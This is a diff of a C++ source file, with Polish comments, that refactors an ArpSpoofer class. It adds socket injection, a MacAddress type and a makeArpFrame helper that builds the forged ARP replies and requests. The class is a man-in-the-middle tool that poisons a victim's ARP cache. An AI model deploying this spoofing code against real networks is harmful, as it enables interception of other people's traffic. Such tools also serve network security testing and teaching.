@@ -3,8 +3,6 @@
 #include "NetworkHeaders.hpp"
 #include <cstring>
 #include <cstdint>
-#include <algorithm>
-#include <iterator>
 #ifdef _WIN32
 #include <winsock2.h>
 #else
@@ -15,18 +13,17 @@
 
 ////////////////////////////////////////////////////////////
 ArpSpoofer::ArpSpoofer(const IPAddress& victimIp, const IPAddress& targetIp, bool oneWayMode)
-	: victimIp(victimIp)
+	: ArpSpoofer(victimIp, targetIp, PlatformFactory::createRawSocket(), oneWayMode) {
+}
+
+////////////////////////////////////////////////////////////
+ArpSpoofer::ArpSpoofer(const IPAddress& victimIp, const IPAddress& targetIp, std::unique_ptr<RawSocket> socket,
+                       bool oneWayMode)
+	: socket(std::move(socket))
+	, victimIp(victimIp)
 	, targetIp(targetIp)
 	, oneWayMode(oneWayMode)
 	, running(false) {
-	
-	// Inicjalizuj adresy MAC zerami
-	std::memset(victimMac, 0, 6);
-	std::memset(targetMac, 0, 6);
-	std::memset(myMac, 0, 6);
-	
-	// Utwórz raw socket
-	socket = PlatformFactory::createRawSocket();
 }
 
 ////////////////////////////////////////////////////////////
@@ -35,18 +32,18 @@ ArpSpoofer::~ArpSpoofer() {
 }
 
 ////////////////////////////////////////////////////////////
-void ArpSpoofer::setVictimMac(const uint8_t mac[6]) {
-	std::memcpy(victimMac, mac, 6);
+void ArpSpoofer::setVictimMac(const MacAddress& mac) {
+	victimMac = mac;
 }
 
 ////////////////////////////////////////////////////////////
-void ArpSpoofer::setTargetMac(const uint8_t mac[6]) {
-	std::memcpy(targetMac, mac, 6);
+void ArpSpoofer::setTargetMac(const MacAddress& mac) {
+	targetMac = mac;
 }
 
 ////////////////////////////////////////////////////////////
-void ArpSpoofer::setMyMac(const uint8_t mac[6]) {
-	std::memcpy(myMac, mac, 6);
+void ArpSpoofer::setMyMac(const MacAddress& mac) {
+	myMac = mac;
 }
 
 ////////////////////////////////////////////////////////////
@@ -115,37 +112,17 @@ bool ArpSpoofer::sendSpoofPacket() {
 }
 
 ////////////////////////////////////////////////////////////
-bool ArpSpoofer::sendArpReply(const IPAddress& targetIp, const uint8_t targetMac[6], const IPAddress& spoofedIp) {
+bool ArpSpoofer::sendArpReply(const IPAddress& targetIp, const MacAddress& targetMac, const IPAddress& spoofedIp) {
 	// Sprawdź czy mamy wszystkie wymagane dane
 	if (targetIp.isEmpty() || spoofedIp.isEmpty()) {
 		return false;
 	}
 	
 	// Utwórz pakiet ARP reply
-	uint8_t packet[42]; // Ethernet header (14) + ARP header (28)
-	
-	// Ethernet header
-	EthernetHeader* eth = reinterpret_cast<EthernetHeader*>(packet);
-	std::memcpy(eth->dest, targetMac, 6);
-	std::memcpy(eth->src, myMac, 6);
-	eth->type = htons(0x0806); // ARP
-	
-	// ARP header
-	ArpHeader* arp = reinterpret_cast<ArpHeader*>(packet + 14);
-	arp->hardware_type = htons(1); // Ethernet
-	arp->protocol_type = htons(0x0800); // IPv4
-	arp->hardware_size = 6;
-	arp->protocol_size = 4;
-	arp->opcode = htons(2); // ARP Reply
-	
-	std::memcpy(arp->sender_mac, myMac, 6);
-	std::memcpy(arp->sender_ip, spoofedIp.toBytes().data(), 4);
-	std::memcpy(arp->target_mac, targetMac, 6);
-	std::memcpy(arp->target_ip, targetIp.toBytes().data(), 4);
+	ArpFrame packet = makeArpFrame(ARP_OP_REPLY, targetMac, myMac, spoofedIp, targetMac, targetIp);
 	
 	// Wyślij pakiet
-	std::vector<uint8_t> packetVec(packet, packet + 42);
-	return socket->sendPacket(packetVec);
+	return socket->sendPacket(std::vector<uint8_t>(packet.begin(), packet.end()));
 }
 
 ////////////////////////////////////////////////////////////
@@ -154,31 +131,11 @@ bool ArpSpoofer::sendArpRequest(const IPAddress& targetIp) {
 		return false;
 	}
 	
-	// Utwórz pakiet ARP request
-	uint8_t packet[42]; // Ethernet header (14) + ARP header (28)
-	
-	// Ethernet header
-	EthernetHeader* eth = reinterpret_cast<EthernetHeader*>(packet);
-	std::memset(eth->dest, 0xFF, 6); // Broadcast
-	std::memcpy(eth->src, myMac, 6);
-	eth->type = htons(0x0806); // ARP
-	
-	// ARP header
-	ArpHeader* arp = reinterpret_cast<ArpHeader*>(packet + 14);
-	arp->hardware_type = htons(1); // Ethernet
-	arp->protocol_type = htons(0x0800); // IPv4
-	arp->hardware_size = 6;
-	arp->protocol_size = 4;
-	arp->opcode = htons(1); // ARP Request
-	
-	std::memcpy(arp->sender_mac, myMac, 6);
-	// sender_ip zostanie ustawione przez użytkownika
-	std::memset(arp->target_mac, 0, 6);
-	std::memcpy(arp->target_ip, targetIp.toBytes().data(), 4);
+	// Utwórz pakiet ARP request (broadcast, adres nadawcy IP pusty)
+	ArpFrame packet = makeArpFrame(ARP_OP_REQUEST, MacAddress::Broadcast, myMac, IPAddress(), MacAddress(), targetIp);
 	
 	// Wyślij pakiet
-	std::vector<uint8_t> packetVec(packet, packet + 42);
-	return socket->sendPacket(packetVec);
+	return socket->sendPacket(std::vector<uint8_t>(packet.begin(), packet.end()));
 }
 
 ////////////////////////////////////////////////////////////
@@ -216,9 +173,5 @@ bool ArpSpoofer::isReady() const {
 	}
 	
 	// Sprawdź czy mamy wszystkie wymagane adresy MAC
-	bool hasVictimMac = std::any_of(std::begin(victimMac), std::end(victimMac), [](uint8_t b) { return b != 0; });
-	bool hasTargetMac = std::any_of(std::begin(targetMac), std::end(targetMac), [](uint8_t b) { return b != 0; });
-	bool hasMyMac = std::any_of(std::begin(myMac), std::end(myMac), [](uint8_t b) { return b != 0; });
-	
-	return hasVictimMac && hasTargetMac && hasMyMac;
+	return !victimMac.isEmpty() && !targetMac.isEmpty() && !myMac.isEmpty();
 } 
\ No newline at end of file